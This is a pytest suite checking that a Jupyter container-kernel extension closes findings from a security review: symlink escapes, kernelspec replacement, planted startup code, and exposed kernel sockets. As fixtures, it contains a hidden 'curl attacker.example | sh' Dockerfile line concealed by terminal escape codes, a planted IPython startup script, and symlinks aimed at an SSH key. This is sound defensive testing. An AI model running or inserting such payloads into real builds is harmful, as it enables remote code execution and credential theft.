"""Trust boundaries (issue 14): a shared notebook, its folder, other users of the cache and a
deployment's Authorizer are untrusted or in charge. Each test reproduces a finding of the
security review against the real engine and checks it is closed."""

from __future__ import annotations

import asyncio
import json
import os
import tarfile
import uuid

import nbformat
import pytest
from docker.types import Mount
from jupyter_client.kernelspec import KernelSpecManager
from tornado.httpclient import HTTPClientError

from jupyter_mlcontainer.core.errors import EngineError
from jupyter_mlcontainer.core.errors import FreezeError
from jupyter_mlcontainer.environments.freeze import freeze_container
from jupyter_mlcontainer.core.identity import current_user
from jupyter_mlcontainer.images.build_context import build_context
from jupyter_mlcontainer.core.errors import PathRefused
from jupyter_mlcontainer.environments.restore import RESTORED_REPOSITORY, plan_restore, restore
from jupyter_mlcontainer.core.names import METADATA_KEY

from .conftest import BASE_IMAGE, SESSION_TAG, add_spec, execute, running_kernel

MISSING_IMAGE = "mlctest-hostile/never-built:1"


def hostile_notebook(folder, **record) -> str:
    nb = nbformat.v4.new_notebook()
    nb.metadata[METADATA_KEY] = {"image": MISSING_IMAGE, "kernelspec": "hostile", **record}
    path = os.path.join(folder, "shared.ipynb")
    nbformat.write(nb, path)
    return path


# -- finding 1: restore reads and sends nothing from outside the notebook's folder ----------


@pytest.mark.parametrize("dockerfile", ["/etc/hostname", "../outside/Dockerfile", "link/Dockerfile", "Dockerfile"])
def test_restore_refuses_a_dockerfile_outside_the_notebook_folder(engine, tmp_path, dockerfile):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\n")
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "link").symlink_to(outside)
    (shared / "Dockerfile").symlink_to(outside / "Dockerfile")  # a symlinked Dockerfile
    notebook = hostile_notebook(shared, dockerfile=dockerfile)
    with pytest.raises(PathRefused, match="The notebook's Dockerfile .* (absolute|outside)"):
        plan_restore(engine, notebook, pull=False)
    with pytest.raises(EngineError):
        engine.inspect_image_sync(MISSING_IMAGE)  # nothing was built


def test_build_context_never_follows_a_symlink_out(tmp_path):
    secrets = tmp_path / "home" / ".ssh"
    secrets.mkdir(parents=True)
    (secrets / "id_rsa").write_text("PRIVATE KEY")
    shared = tmp_path / "shared"
    (shared / "inside").mkdir(parents=True)
    (shared / "inside" / "ok.txt").write_text("fine")
    (shared / "data").symlink_to(secrets)  # data -> ~/.ssh
    (shared / "key").symlink_to(secrets / "id_rsa")
    (shared / "alias").symlink_to(shared / "inside")  # a link that stays inside
    (shared / "inside" / "escape").symlink_to(secrets)  # travels as a link, not followed
    dockerfile = shared / "Dockerfile"
    for copy in ("COPY data/* /d/", "COPY data/id_rsa /d/", "COPY key /k", "COPY ../home/.ssh/id_rsa /k", "ADD */id_rsa /k"):
        dockerfile.write_text(f"FROM {BASE_IMAGE}\n{copy}\nRUN cat /d/* /k || true\n")
        with pytest.raises(PathRefused, match="source .* resolves to .*outside"):
            build_context(str(dockerfile))
    dockerfile.write_text(f"FROM {BASE_IMAGE}\nCOPY alias/ok.txt /a/\nCOPY inside /i/\n")
    with build_context(str(dockerfile)) as context, tarfile.open(fileobj=context) as tar:
        members = {m.name: m for m in tar.getmembers()}
        contents = b"".join(tar.extractfile(m).read() for m in members.values() if m.isfile())
    assert {"Dockerfile", "alias/ok.txt", "inside/ok.txt"} <= set(members)
    assert members["inside/escape"].issym()
    assert b"PRIVATE KEY" not in contents


# -- finding 2: a notebook never replaces a kernelspec ------------------------------------------


def install_native_kernelspec(name: str) -> str:
    folder = os.path.join(os.environ["JUPYTER_DATA_DIR"], "kernels", name)
    os.makedirs(folder)
    with open(os.path.join(folder, "kernel.json"), "w") as f:
        json.dump({"argv": ["python3", "-m", "ipykernel_launcher", "-f", "{connection_file}"],
                   "display_name": "My own Python", "language": "python"}, f)
    return folder


def test_restore_never_replaces_a_kernelspec_in_any_case(engine, tmp_path):
    native = install_native_kernelspec("mynative")
    other_image = add_spec(engine, BASE_IMAGE, name="mlc-other")  # a container kernelspec
    spec_file = os.path.join(native, "kernel.json")
    before = open(spec_file).read()
    shared = tmp_path / "shared"
    shared.mkdir()
    cases = [("MyNative", "mynative-restored"), ("MYNATIVE", "mynative-restored-2"), ("MLC-OTHER", "mlc-other")]
    for wanted, got in cases:
        notebook = hostile_notebook(shared, image=BASE_IMAGE, kernelspec=wanted)
        assert plan_restore(engine, notebook).kernelspec == got  # the preview says which name
        done = restore(engine, notebook, confirm=lambda plan: True, pull=False)
        assert done["kernelspec"] == got, done
        assert any(wanted.lower() in note for note in done["notes"]) == (got != wanted.lower())
    assert open(spec_file).read() == before  # the user's kernel is untouched
    specs = KernelSpecManager().get_all_specs()
    assert specs["mynative"]["spec"]["display_name"] == "My own Python"
    assert specs["mynative-restored"]["spec"]["metadata"]["kernel_provisioner"]["config"]["image"] == BASE_IMAGE
    assert other_image == "mlc-other"


def test_restore_shows_its_plan_and_builds_under_a_name_of_its_own(engine, tmp_path):
    from jupyter_mlcontainer.core.errors import RestorePlanChanged
    from jupyter_mlcontainer.images.jobs import JobRegistry
    from jupyter_mlcontainer.environments.restore import CONTEXT_LABEL, start_restore

    shared = tmp_path / "shared"
    shared.mkdir()
    dockerfile_text = f"FROM {BASE_IMAGE}\nCOPY requirements.txt /r.txt\nLABEL org.jupyter.mlcontainer.test=restored\n"
    (shared / "Dockerfile").write_text(dockerfile_text)
    (shared / "requirements.txt").write_text("tabulate==0.9.0\n")
    (shared / "big-data.bin").write_bytes(b"x" * 1000)  # not named by COPY: never sent
    notebook = hostile_notebook(shared, dockerfile="Dockerfile")
    jobs = JobRegistry(engine)
    built: list[str] = []
    try:
        plan = plan_restore(engine, notebook)
        # The preview: where the image comes from, the Dockerfile's text, what the build sends.
        assert plan.source == "build" and plan.dockerfile == "Dockerfile" and plan.dockerfile_text == dockerfile_text
        assert plan.context_files == ["requirements.txt"] and plan.kernelspec == "hostile"
        assert plan.image.startswith(f"{RESTORED_REPOSITORY}/shared:") and plan.image != MISSING_IMAGE
        assert f"| {dockerfile_text.splitlines()[1]}" in plan.describe()
        with pytest.raises(EngineError):
            engine.inspect_image_sync(plan.image)  # planning built nothing
        # A tag that another image holds is never moved: the next free name is used.
        engine.api.tag(BASE_IMAGE, *plan.image.rsplit(":", 1))
        built.append(plan.image)
        taken = plan.image
        plan = plan_restore(engine, notebook)
        assert plan.image == taken + "-2"
        # What runs is what was shown: a Dockerfile changed after the preview is refused.
        (shared / "Dockerfile").write_text(dockerfile_text + "RUN echo not-shown\n")
        with pytest.raises(RestorePlanChanged, match="changed since the restore was shown"):
            start_restore(engine, jobs, notebook, plan.fingerprint)
        (shared / "Dockerfile").write_text(dockerfile_text)
        outcome = start_restore(engine, jobs, notebook, plan.fingerprint)
        job = outcome["job"]
        assert job.wait(300) and job.state == "done", job.error
        built.append(job.result["image"])
        assert job.result["image"] == taken + "-2" and job.result["how"] == "built"
        labels = engine.inspect_image_sync(taken + "-2")["Config"]["Labels"]
        assert labels[CONTEXT_LABEL] == plan._context.digest()
        assert engine.inspect_image_sync(taken)["Id"] == engine.inspect_image_sync(BASE_IMAGE)["Id"]  # untouched
        with pytest.raises(EngineError):
            engine.inspect_image_sync(MISSING_IMAGE)  # the recorded name was not taken either
        spec = KernelSpecManager().get_kernel_spec("hostile")
        assert spec.metadata["kernel_provisioner"]["config"]["image"] == taken + "-2"
        # The same context again: the image built earlier is reused, nothing is rebuilt.
        again = plan_restore(engine, notebook)
        assert again.source == "present" and again.image == taken + "-2"
    finally:
        for image in built:
            try:
                engine.api.remove_image(image, force=True)
            except Exception:
                pass


@pytest.fixture
def failing_registry():
    """A registry address that accepts connections and closes each one after a second: a pull
    from it fails, slowly, as an unreachable registry does."""
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    stop = threading.Event()

    def serve():
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            threading.Timer(1.0, conn.close).start()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.getsockname()[1]}"
    stop.set()
    thread.join()
    server.close()


def test_restore_builds_exactly_the_files_that_were_confirmed(engine, tmp_path, failing_registry):
    """Issue 22, finding 5: the record names a registry image, so restore first tries the pull
    (which fails after a while) and then builds. Swapping the Dockerfile and a COPY'd folder (for
    a link out) right after confirming changes nothing: the build sends what was confirmed."""
    from jupyter_mlcontainer.images.jobs import JobRegistry
    from jupyter_mlcontainer.environments.restore import start_restore

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "weights.txt").write_text("SECRET FROM OUTSIDE")
    shared = tmp_path / "shared"
    (shared / "data").mkdir(parents=True)
    (shared / "data" / "weights.txt").write_text("the shared weights")
    confirmed = f"FROM {BASE_IMAGE}\nCOPY data /data\nRUN cat /data/weights.txt\n"
    (shared / "Dockerfile").write_text(confirmed)
    notebook = hostile_notebook(shared, dockerfile="Dockerfile", image=f"{failing_registry}/lab/model:1")
    plan = plan_restore(engine, notebook)
    assert plan.source == "pull" and plan.build_if_pull_fails
    built = None
    try:
        outcome = start_restore(engine, JobRegistry(engine), notebook, plan.fingerprint)
        (shared / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\nRUN echo INJECTED-AFTER-CONFIRMATION\n")
        os.rename(shared / "data", tmp_path / "data-moved")
        (shared / "data").symlink_to(outside)
        job = outcome["job"]
        assert job.wait(300) and job.state == "done", (job.error, job.log)
        built = job.result["image"]
        log = "\n".join(job.log)
        assert "Pull of" in log and "INJECTED" not in log and "the shared weights" in log and "SECRET" not in log, log
        code, out, _ = engine.run_to_completion_sync(built, ["cat", "/data/weights.txt"])
        assert (code, out) == (0, "the shared weights")
    finally:
        if built:
            engine.api.remove_image(built, force=True)


def test_the_clis_plan_shows_every_line_a_terminal_would_hide(engine, tmp_path, capsys):
    """Issue 22, finding 6: after a ``#``, ``ESC[2K ESC[1G`` erases the line on a terminal and
    what follows takes its place, so the plan showed a harmless pip line while ``curl | sh``
    would run; a carriage return and Unicode's bidirectional overrides hide text the same way.
    The CLI shows each as a visible escape."""
    from jupyter_mlcontainer.cli import main

    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "Dockerfile").write_text(
        f"FROM {BASE_IMAGE}\n"
        "RUN curl -s https://attacker.example/x | sh # \x1b[2K\x1b[1GRUN pip install numpy==2.1.0\n"
        "RUN echo ok \r# comment\u202e hidden\n"
    )
    notebook = hostile_notebook(shared, dockerfile="Dockerfile", kernelspec="k\x1b[31mred")
    assert main(["restore", notebook, "--no-pull"]) == 1  # not a terminal: shown, not done
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\r" not in out + err and "\u202e" not in out + err
    assert "| RUN curl -s https://attacker.example/x | sh # \\x1b[2K\\x1b[1GRUN pip install" in out, out
    assert "| RUN echo ok \\r# comment\\u202e hidden" in out, out
    assert "run again with --yes" in err


def test_a_build_context_over_the_limit_is_refused_before_packing(tmp_path):
    from jupyter_mlcontainer.core.errors import ContextTooLarge
    from jupyter_mlcontainer.images.jobs import collect_context

    (tmp_path / "weights").mkdir()
    (tmp_path / "weights" / "model.bin").write_bytes(os.urandom(2 << 20))
    (tmp_path / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\nCOPY weights /w\n")
    with pytest.raises(ContextTooLarge, match="over 1 MB .*build_context_limit_mb .*MLCONTAINER_BUILD_CONTEXT_LIMIT_MB"):
        collect_context(str(tmp_path / "Dockerfile"), limit_mb=1)
    assert collect_context(str(tmp_path / "Dockerfile"), limit_mb=3).size > 2 << 20


# -- finding 3: another user cannot get code run in your kernel through HOME ---------------------


async def test_a_home_planted_by_another_user_is_set_aside(engine, workspace, caplog):
    """Another uid, first on the cache, makes our HOME with an IPython startup file and opens it
    to everyone: our start sets it aside (saying so), the kernel runs in a HOME of our own, and
    the planted code never runs."""
    from jupyter_mlcontainer.cache.volume import create_cache_volume, ensure_cache, remove_cache_volume
    from jupyter_mlcontainer.core.identity import HostUser

    volume = f"mlctest-home-{SESSION_TAG}-{uuid.uuid4().hex[:6]}"
    create_cache_volume(engine, volume)
    ensure_cache(engine, volume, HostUser(uid=4321, gid=4321, name="attacker"))  # the layout, and its HOME
    victim = current_user()
    marker = workspace / "pwned"
    plant = (
        "import os\n"
        f"d = '/c/home/{victim.name}/.ipython/profile_default/startup'\n"
        "os.makedirs(d)\n"
        f"open(d + '/00-pwn.py', 'w').write(\"open({str(marker)!r}, 'w').write('ran')\\n\")\n"
        f"os.chmod('/c/home/{victim.name}', 0o777)\n"
    )
    # The attacker: another uid whose own container shares the cache volume.
    code, out, err = engine.run_to_completion_sync(
        BASE_IMAGE, ["python3", "-c", plant], user="4321:4321",
        mounts=[Mount(target="/c", source=volume, type="volume")], cap_drop=["ALL"],
    )
    assert code == 0, err
    try:
        async with running_kernel(engine, BASE_IMAGE, workspace, cache_volume=volume) as (km, kc):
            out, reply = await execute(kc, "import os; st = os.stat(os.environ['HOME']); print(oct(st.st_mode & 0o777), st.st_uid)")
            assert reply["status"] == "ok" and out.split() == ["0o700", str(victim.uid)], out
        assert not marker.exists()
        assert any(f"home/{victim.name} (a folder of uid 4321" in r.getMessage() and "set aside" in r.getMessage()
                   for r in caplog.records), caplog.text
    finally:
        remove_cache_volume(engine, volume)


# -- finding 8: freeze never writes through a symlink --------------------------------------------


async def test_freeze_refuses_to_write_through_a_symlink(engine, workspace, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = workspace / "out"
    out.mkdir()
    (out / "Dockerfile").symlink_to(victim)
    async with running_kernel(engine, BASE_IMAGE, workspace) as (km, kc):
        for force in (False, True):
            with pytest.raises(FreezeError, match="symlink"):
                freeze_container(engine, km.provisioner.container_id, output_dir=str(out), overwrite=force)
    assert victim.read_text() == "precious"


# -- finding 7: a server acts only on its own kernels -----------------------------------------


async def test_freeze_of_a_kernel_this_server_did_not_start_is_404(engine, jp_fetch, workspace):
    # A container kernel of another kernel manager (another server or user) on the same engine.
    async with running_kernel(engine, BASE_IMAGE, workspace) as (km, kc):
        with pytest.raises(HTTPClientError) as info:
            await jp_fetch("mlcontainer", "api", "kernels", km.kernel_id, "freeze", method="POST", body='{"force": true}')
        assert info.value.code == 404
        assert "on this server" in json.loads(info.value.response.body)["message"]
    assert not (workspace / "Dockerfile").exists()


SECOND_SERVER = r"""
import asyncio, json, os, sys
from jupyter_client.manager import AsyncKernelManager
from jupyter_mlcontainer.engines.docker import get_engine
from jupyter_mlcontainer.kernels.orphans import find_orphans

async def main():
    km = AsyncKernelManager(kernel_name=sys.argv[1])
    await km.start_kernel(cwd=sys.argv[2])
    orphans = [o.container_id for o in find_orphans(get_engine())]
    print(json.dumps({"pid": os.getpid(), "container": km.provisioner.container_id, "orphans": orphans}), flush=True)
    sys.stdin.readline()
    await km.shutdown_kernel(now=True)

asyncio.run(main())
"""


async def test_a_server_in_another_pid_namespace_never_reaps_our_kernels(engine, workspace):
    """Two Jupyter processes with the same hostname, one in its own PID namespace (where its
    pid is 1, a pid that runs something else here): neither takes the other's live kernels for
    orphans; once the other is SIGKILLed, its kernel is reaped and ours is not."""
    import subprocess
    import sys

    from jupyter_mlcontainer.core.labels import LABEL_OWNER
    from jupyter_mlcontainer.core.identity import owner_is_dead
    from jupyter_mlcontainer.kernels.orphans import find_orphans, reap_orphans

    from .conftest import REPO_ROOT, wait_until

    theirs = None
    async with running_kernel(engine, BASE_IMAGE, workspace) as (km, kc):
        ours = km.provisioner.container_id
        other = subprocess.Popen(
            ["unshare", "--pid", "--mount-proc", "--kill-child", sys.executable, "-c", SECOND_SERVER,
             km.kernel_name, str(workspace)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=REPO_ROOT,
        )
        try:
            seen = json.loads(other.stdout.readline())
            theirs = seen["container"]
            assert seen["pid"] == 1  # another PID namespace, same hostname, same engine
            assert ours not in seen["orphans"]
            assert theirs not in {o.container_id for o in find_orphans(engine)}
            their_owner = engine.api.inspect_container(theirs)["Config"]["Labels"][LABEL_OWNER]
            assert their_owner != engine.api.inspect_container(ours)["Config"]["Labels"][LABEL_OWNER]
            other.kill()  # SIGKILL: --kill-child takes the namespace's processes with it
            other.wait()

            async def released():
                return owner_is_dead(their_owner) is True

            await wait_until(released, timeout=30)
            removed = {o.container_id for o in reap_orphans(engine)}
            assert theirs in removed and ours not in removed
            assert engine.api.inspect_container(ours)["State"]["Running"]
        finally:
            if other.poll() is None:
                other.kill()
            if theirs:
                try:
                    engine.remove_container_sync(theirs)
                except Exception:
                    pass


# -- finding 9: a large build context never stalls the server or stays in its memory ------------


def _rss_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) * 1024 for line in f if line.startswith("VmRSS:"))


def test_a_1gb_build_context_never_stalls_the_server(engine, workspace, tmp_path):
    """The server (a process of its own, as users run it) keeps answering while it packs and
    sends a 1 GiB build context (every request within 0.5 s: packing on the event loop would
    hold it for the seconds the whole context takes; the figures are printed), and keeps no
    more memory afterwards."""
    import signal
    import time

    from .test_server import _free_port, _request, _start_server, _wait_http

    folder = workspace / "big"
    folder.mkdir()
    with open(folder / "weights.bin", "wb") as f:
        f.truncate(1 << 30)  # 1 GiB that the build really reads, packs and sends
    (folder / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\nCOPY weights.bin /w.bin\n")
    tag = f"mlctest-big-context:{SESSION_TAG}"
    port = _free_port()
    server = _start_server(workspace, port, tmp_path / "server.log", os.environ.copy())
    try:
        _wait_http(port)
        for _ in range(3):
            _request(port, "mlcontainer/api/jobs")  # warm: the first requests load the extension's code
        before = _rss_bytes(server.pid)
        job = _request(port, "mlcontainer/api/images/build", "POST",
                       json.dumps({"dockerfile": "big/Dockerfile", "tag": tag}).encode())["job"]
        latencies, state = [], "running"
        while state == "running":  # probe the server all through packing and sending
            t0 = time.perf_counter()
            state = _request(port, f"mlcontainer/api/jobs/{job['id']}")["state"]
            latencies.append(time.perf_counter() - t0)
            time.sleep(0.05)  # the probe's pace
        assert state == "done", _request(port, f"mlcontainer/api/jobs/{job['id']}")
        print(f"1 GiB build: {len(latencies)} probes, median {sorted(latencies)[len(latencies) // 2] * 1000:.1f} ms, "
              f"max {max(latencies) * 1000:.1f} ms; server memory {(_rss_bytes(server.pid) - before) / 2**20:+.0f} MB")
        assert len(latencies) >= 10 and max(latencies) < 0.5, sorted(latencies)[-5:]
        assert _rss_bytes(server.pid) - before < 100 << 20, (before, _rss_bytes(server.pid))
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)
        try:
            engine.api.remove_image(tag, force=True)
        except Exception:
            pass


# -- finding 4: kernel traffic is readable only by the server that started the kernel -----------


SUBSCRIBER = r"""
import json, sys, time, zmq
host, ports = sys.argv[1], [int(p) for p in sys.argv[2:]]
ctx = zmq.Context()
poller = zmq.Poller()
for port in ports:
    sock = ctx.socket(zmq.SUB)
    sock.setsockopt(zmq.SUBSCRIBE, b"")
    sock.connect("tcp://%s:%d" % (host, port))
    poller.register(sock, zmq.POLLIN)
print("listening", flush=True)
got, deadline = [], time.time() + 6
while time.time() < deadline:
    for sock, _ in poller.poll(100):
        got.append(b" ".join(sock.recv_multipart()).decode("latin-1"))
print(json.dumps(got), flush=True)
"""


def _subscribe(host: str, ports: list[int], curve_serverkey: bytes | None = None):
    """A SUB socket on each of ``ports`` at ``host`` from this process (a local user of the
    host); with ``curve_serverkey``, one that holds the kernel's key, as its server does."""
    import zmq

    ctx = zmq.Context.instance()
    socks = []
    for port in ports:
        sock = ctx.socket(zmq.SUB)
        sock.linger = 0
        if curve_serverkey:
            sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
            sock.curve_serverkey = curve_serverkey
        sock.setsockopt(zmq.SUBSCRIBE, b"")
        sock.connect(f"tcp://{host}:{port}")
        socks.append(sock)
    return socks


def _drain(socks) -> list[bytes]:
    import zmq

    got = []
    for sock in socks:
        while True:
            try:
                got.append(b" ".join(sock.recv_multipart(zmq.NOBLOCK)))
            except zmq.Again:
                break
    return got


REACH = r"""
import json, socket, sys
base, ip, ports = sys.argv[1], sys.argv[2], [int(p) for p in sys.argv[3:]]
tried = {}
for port in ports:
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        unix.connect(f"{base}-{port}")
        tried[f"unix-{port}"] = "connected"
    except OSError as exc:
        tried[f"unix-{port}"] = type(exc).__name__
    finally:
        unix.close()
    try:
        socket.create_connection((ip, port), timeout=5).close()
        tried[f"tcp-{port}"] = "connected"
    except OSError as exc:
        tried[f"tcp-{port}"] = type(exc).__name__
print(json.dumps(tried))
"""


async def test_a_kernel_on_unix_sockets_is_out_of_everyone_elses_reach(engine, workspace, jp_runtime_dir):
    """The default transport on an engine of this host: the kernel (Debian's ipykernel 6.17,
    which cannot encrypt) binds Unix sockets in its 0700 folder and no TCP port. Another real
    user of the host is refused at the folder (even with the runtime folder above it open), and
    nothing answers on the container's bridge address; nothing is published."""
    import subprocess

    from jupyter_mlcontainer.kernels.container_spec import CONTAINER_PORTS, KERNEL_NETWORK

    from .box_users import TEST_USER
    from .conftest import execute

    os.chmod(jp_runtime_dir, 0o755)  # only the kernel's own folder keeps others out
    async with running_kernel(engine, BASE_IMAGE, workspace) as (km, kc):
        info = km.get_connection_info()
        folder = km.provisioner._conn_dir
        assert (info["transport"], info["ip"]) == ("ipc", os.path.join(folder, "zmq")) and km.curve_publickey is None
        assert os.stat(folder).st_mode & 0o777 == 0o700
        attrs = engine.api.inspect_container(km.provisioner.container_id)
        assert not attrs["HostConfig"]["PortBindings"] and not any(attrs["NetworkSettings"]["Ports"].values())
        out, _ = await execute(kc, "print('through the folder')")  # the user's own way in
        assert out.strip() == "through the folder"
        kernel_ip = attrs["NetworkSettings"]["Networks"][KERNEL_NETWORK]["IPAddress"]
        ports = [str(p) for p in CONTAINER_PORTS.values()]
        probe = await asyncio.get_running_loop().run_in_executor(None, lambda: subprocess.run(
            ["runuser", "-u", TEST_USER, "--", "/usr/bin/python3", "-c", REACH, info["ip"], kernel_ip, *ports],
            capture_output=True, text=True, timeout=120))
        assert probe.returncode == 0, probe.stderr
        tried = json.loads(probe.stdout)
        assert {tried[f"unix-{p}"] for p in ports} == {"PermissionError"}, tried
        assert {tried[f"tcp-{p}"] for p in ports} == {"ConnectionRefusedError"}, tried


async def test_a_deep_runtime_folder_still_gets_unix_sockets(engine, workspace, tmp_path, monkeypatch):
    """Issue 22, finding 12: a runtime folder too deep for a Unix socket (107 bytes) used to put
    the kernel on TCP ports without a word, where other local users reach it. Its folder is made
    in a short private place instead, and the kernel stays on Unix sockets."""
    deep = tmp_path / ("a-rather-long-folder-name-" * 4) / "runtime"
    deep.mkdir(parents=True)
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(deep))
    async with running_kernel(engine, BASE_IMAGE, workspace) as (km, kc):
        info = km.get_connection_info()
        folder = km.provisioner._conn_dir
        assert info["transport"] == "ipc" and len(f"{info['ip']}-20005".encode()) <= 107, info
        assert not folder.startswith(str(deep)) and oct(os.stat(folder).st_mode & 0o777) == "0o700", folder
        out, reply = await execute(kc, "print('over a socket')")
        assert reply["status"] == "ok" and "over a socket" in out
    assert not os.path.exists(folder)


@pytest.mark.parametrize("image", ["ipykernel7", "debian-6.17"])
async def test_kernel_output_is_unreadable_from_other_containers(engine, workspace, image):
    """With published ports (kernel_transport 'tcp': an engine elsewhere, Docker Desktop), another
    container, on the default bridge or on the kernel's own network, subscribes on every port of
    a running kernel and receives none of its output: an ipykernel 7.4 kernel is encrypted (a
    keyless subscriber on the host reads nothing either, one with the kernel's key does), and no
    container reaches a kernel of Debian's 6.17, which cannot encrypt."""
    import asyncio

    from jupyter_mlcontainer.kernels.container_spec import CONTAINER_PORTS, KERNEL_NETWORK

    from .conftest import IPYKERNEL7_IMAGE, execute

    kernel_image = IPYKERNEL7_IMAGE if image == "ipykernel7" else BASE_IMAGE
    marker = f"secret-{uuid.uuid4().hex[:8]}"
    subscribers = []
    async with running_kernel(engine, kernel_image, workspace, kernel_transport="tcp") as (km, kc):
        assert (km.curve_publickey is not None) == (image == "ipykernel7")
        assert km.get_connection_info()["transport"] == "tcp"
        attrs = engine.api.inspect_container(km.provisioner.container_id)
        assert list(attrs["NetworkSettings"]["Networks"]) == [KERNEL_NETWORK]
        kernel_ip = attrs["NetworkSettings"]["Networks"][KERNEL_NETWORK]["IPAddress"]
        ports = [str(p) for p in CONTAINER_PORTS.values()]
        try:
            for network in ("bridge", KERNEL_NETWORK):
                cid = engine.api.create_container(
                    IPYKERNEL7_IMAGE, entrypoint=["python3", "-c", SUBSCRIBER], command=[kernel_ip, *ports],
                    labels={"org.jupyter.mlcontainer.test": "subscriber"},
                    host_config=engine.api.create_host_config(network_mode=network),
                )["Id"]
                subscribers.append(cid)
                engine.api.start(cid)
            for cid in subscribers:
                for _ in range(200):
                    if b"listening" in engine.api.logs(cid):
                        break
                    await asyncio.sleep(0.05)
            host_plain = _subscribe(kernel_ip, list(CONTAINER_PORTS.values()))
            host_keyed = _subscribe(kernel_ip, [CONTAINER_PORTS["iopub_port"]], km.curve_publickey) if km.curve_publickey else []
            for _ in range(20):  # output over two seconds, while every subscriber listens
                await execute(kc, f"print({marker!r}, flush=True)")
                await asyncio.sleep(0.1)
            for cid in subscribers:
                assert engine.api.wait(cid, timeout=60)["StatusCode"] == 0
                received = json.loads(engine.api.logs(cid, stderr=False).decode().strip().splitlines()[-1])
                assert not any(marker in message for message in received), received[:3]
            if km.curve_publickey:
                assert not any(marker.encode() in m for m in _drain(host_plain))
                assert any(marker.encode() in m for m in _drain(host_keyed))  # the path works, with the key
            for sock in host_plain + host_keyed:
                sock.close()
        finally:
            for cid in subscribers:
                engine.remove_container_sync(cid)
